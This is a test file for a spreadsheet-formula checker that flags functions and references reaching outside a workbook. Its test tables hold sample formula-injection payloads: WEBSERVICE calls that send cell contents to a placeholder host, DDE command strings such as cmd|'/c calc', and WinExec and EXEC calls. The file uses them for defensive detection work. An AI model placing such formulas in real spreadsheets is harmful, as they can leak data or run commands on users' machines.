import { outsideReach } from "../../src/formula/outside-reach.ts";

describe("what reaches outside the workbook, or may", () => {
  test.each([
    ['=WEBSERVICE("https://x.invalid/?"&A1)', "WEBSERVICE"],
    ['=IF(LOF.METRIC("Kent","NEET")>0,WEBSERVICE("https://x.invalid"),0)', "WEBSERVICE"],
    ['=WEBSERVICE("https://x.invalid/?"&A1#)', "WEBSERVICE"],
    ['=webservice ("https://x.invalid")&LOF.METRIC("a","b")', "webservice"],
    ['=_xlfn.WEBSERVICE("https://x.invalid")', "_xlfn.WEBSERVICE"],
    ['=_xlfn._xlws.WEBSERVICE("x")', "_xlfn._xlws.WEBSERVICE"],
    ['=@\n WEBSERVICE\n("https://x.invalid")', "WEBSERVICE"],
    ['=+-WEBSERVICE("https://x.invalid")', "WEBSERVICE"],
    ['=LET(w,WEBSERVICE,w("https://x.invalid"))', "WEBSERVICE"],
    ["=MAP(A1:A3,WEBSERVICE)", "WEBSERVICE"],
    ["=MAP(A1:A3,_xleta.WEBSERVICE)", "_xleta.WEBSERVICE"],
    ['=FILTERXML("<a/>","//a")', "FILTERXML"],
    ['=HYPERLINK("http://x.invalid/#a",LOF.METRIC("a","b"))', "HYPERLINK"],
    ['=IMAGE("https://x.invalid/"&LOF.METRIC("a","b"))', "IMAGE"],
    ['=RTD("a.b","","c")', "RTD"],
    ['=CALL("kernel32","WinExec","JCJ","calc",1)', "CALL"],
    ['=REGISTER.ID("a","b")', "REGISTER.ID"],
    ['=EXEC("calc")', "EXEC"],
    ['=STOCKHISTORY("MSFT",TODAY())', "STOCKHISTORY"],
    ['=CUBEVALUE("a","b")', "CUBEVALUE"],
    ['=SQL.REQUEST("a","b")', "SQL.REQUEST"],
    ['=PY(0,0,"x")', "PY"],
    ["=CONTOSO.GET(A1)", "CONTOSO.GET"],
    ["=MyMacro(LOF.METRIC(A1,B1))", "MyMacro"],
    ["='C:\\x\\book.xlam'!MyMacro(1)", "'C:\\x\\book.xlam'!"],
    ["=LOFT.METRIC(A1)", "LOFT.METRIC"],
    ["=LOF.METRIC (A1,B1)", "LOF.METRIC"],
    ["=cmd|'/c calc'!A1", "|"],
    ["=LOF.METRIC(A1,B1)+MSEXCEL|'\\..\\..\\x.exe'!''", "|"],
    ["='https://x.invalid/[b.xlsx]S'!A1", "'https://x.invalid/[b.xlsx]S'!"],
    ["=[b.xlsx]Sheet1!A1", "[b.xlsx]Sheet1!"],
    ["=[1]!name", "[1]!"],
    ["='\\\\server\\share\\b.xlsx'!name", "'\\\\server\\share\\b.xlsx'!"],
    ["=Book.xlsx!name", "Book.xlsx!"],
    ['=SUM("open)', '"open)'],
    ["=SUM(T[open)", "[open)"],
    ["='open", "'"],
    ["=A1)", ")"],
    ["=(A1", "("],
    ["+LOF.METRIC(A1,B1)", "+"],
    ["{=LOF.METRIC(A1,B1)}", "{"],
  ])("%s", (formula, what) => {
    expect(outsideReach(formula)).toBe(what);
  });

  test.each([
    ["=MAP(A1:A3,hidden)", "hidden"],
    ['=LET(f,hidden,f("x"))', "hidden"],
    ['=(hidden)("x")', "hidden"],
    ['=IF(TRUE,Sheet1!hidden)("x")', "hidden"],
    ['=LAMBDA(f,f("x"))(hidden)', "hidden"],
    ['=REDUCE("",A1:A3,a.hidden)', "a.hidden"],
  ])("a name that may be called: %s", (formula, name) => expect(outsideReach(formula)).toBe(name));
});

describe("what does not", () => {
  test.each([
    '=LOF.METRIC("Kent","NEET")',
    '=_xldudf_LOF_METRIC("Kent","NEET")',
    '=ROUND(IFERROR(LOFDEV.METRIC(council,"NEET"),0),1)&" ""WEBSERVICE(""x"")"" [b.xlsx]A!B1 cmd|x #"',
    "=TEXT(XLOOKUP(\"Kent\",A:A,'It''s'!$B$1:$B$9),\"0.0%\")&1E-3",
    "=SUM(T[Rate (%)],T[[#All],[WEBSERVICE(]],T['[x'](1)])",
    "=SORT(B4#)+Kent!$C$3#",
    "=_xlfn._xlws.SORT(_xlfn.ANCHORARRAY(B4))",
    "=LET(x,1,y,x+1,LAMBDA(a,b,a+b)(x,y))",
    "=LET(f,LAMBDA(x,x+1),f(2))",
    "=_xlfn.LET(_xlpm.f,_xlfn.LAMBDA(_xlpm.x,_xlpm.x+1),_xlpm.f(2))",
    '=MAP(B4#,LAMBDA(x,LOF.METRIC(x,"NEET")))',
    "=BYROW(A1:C3,SUM)+SUM(1:3,$A:$B,T[a])",
    '=SUM(Jan:Dec!A1)+LOG10(A1)+Größe!A1+{1,"a";#N/A,TRUE}',
    "=A1:B2 (B1:C3)",
    "='LOF Summary'!$A$2&\" and \"&B3",
    "=a.b+council+#REF!B2",
  ])("%s", (formula) => expect(outsideReach(formula)).toBeNull());
});
